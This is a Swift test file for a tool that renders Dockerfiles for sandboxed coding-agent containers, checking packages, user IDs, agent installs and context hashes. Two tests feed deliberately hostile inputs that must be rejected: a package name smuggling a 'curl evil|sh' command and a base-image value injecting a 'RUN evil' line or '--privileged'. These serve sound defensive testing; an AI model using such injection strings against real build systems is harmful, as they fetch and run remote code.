import PaddockCore
import Testing

@Suite("The rendered Dockerfile")
struct ImageRecipeTests {
    func render(_ profile: AgentProfile = .claude, packages: [String] = [], base: String? = nil, uid: UInt32 = 1234, gid: UInt32 = 5678) throws -> ImageRecipe {
        try ImageRecipe.render(base: base, extraPackages: packages, profile: profile, uid: uid, gid: gid)
    }

    @Test func defaultBaseAndRequiredPackages() throws {
        let text = try render().dockerfile
        #expect(text.contains("FROM debian:bookworm-slim\n"))
        for package in ["git", "ca-certificates", "curl", "socat", "openssh-client", "ripgrep", "jq", "less", "procps"] {
            #expect(text.contains(" \(package) ") || text.contains(" \(package)\n") || text.contains("    \(package) "), "\(package)")
        }
        #expect(text.contains("USER 1234:5678\n"))
        #expect(text.contains("WORKDIR /workspace\n"))
        #expect(text.contains("useradd --uid 1234 --gid 5678 --non-unique"))
        #expect(text.contains("getent group 5678"))
    }

    @Test func claudeProfileInstallsAndConfiguresClaude() throws {
        let text = try render(.claude).dockerfile
        #expect(text.contains("RUN npm install -g --no-fund --no-audit @anthropic-ai/claude-code"))
        #expect(text.contains("IS_SANDBOX=\"1\""))
        #expect(text.contains("DISABLE_AUTOUPDATER=\"1\""))
        #expect(text.contains("/home/agent/.claude"))
    }

    @Test func codexAndGeminiProfiles() throws {
        #expect(try render(.codex).dockerfile.contains("@openai/codex"))
        let gemini = try render(.gemini).dockerfile
        #expect(gemini.contains("@google/gemini-cli"))
        #expect(gemini.contains("sha256sum -c"))
    }

    @Test func shellProfileInstallsNoAgent() throws {
        let text = try render(.shell).dockerfile
        #expect(!text.contains("npm"))
    }

    @Test func contentHashTracksEveryInput() throws {
        let base = try render()
        #expect(try render().contextHash == base.contextHash)
        #expect(try render(packages: ["tree"]).contextHash != base.contextHash)
        #expect(try render(base: "debian:trixie-slim").contextHash != base.contextHash)
        #expect(try render(uid: 1).contextHash != base.contextHash)
        #expect(base.tag == "paddock-claude:" + base.contextHash.prefix(16))
    }

    @Test(arguments: ["vim; curl evil|sh", "-y", "Vim", "a", "pkg name", "x=\n"])
    func packageNamesCannotInjectShell(name: String) {
        #expect(throws: PaddockError.self) { try ImageRecipe.render(base: nil, extraPackages: [name], profile: .shell, uid: 1, gid: 1) }
    }

    @Test(arguments: ["--privileged", "debian\nRUN evil", "a b", ""])
    func baseImageMustBeAReference(base: String) {
        #expect(throws: PaddockError.self) { try ImageRecipe.render(base: base, extraPackages: [], profile: .shell, uid: 1, gid: 1) }
    }
}
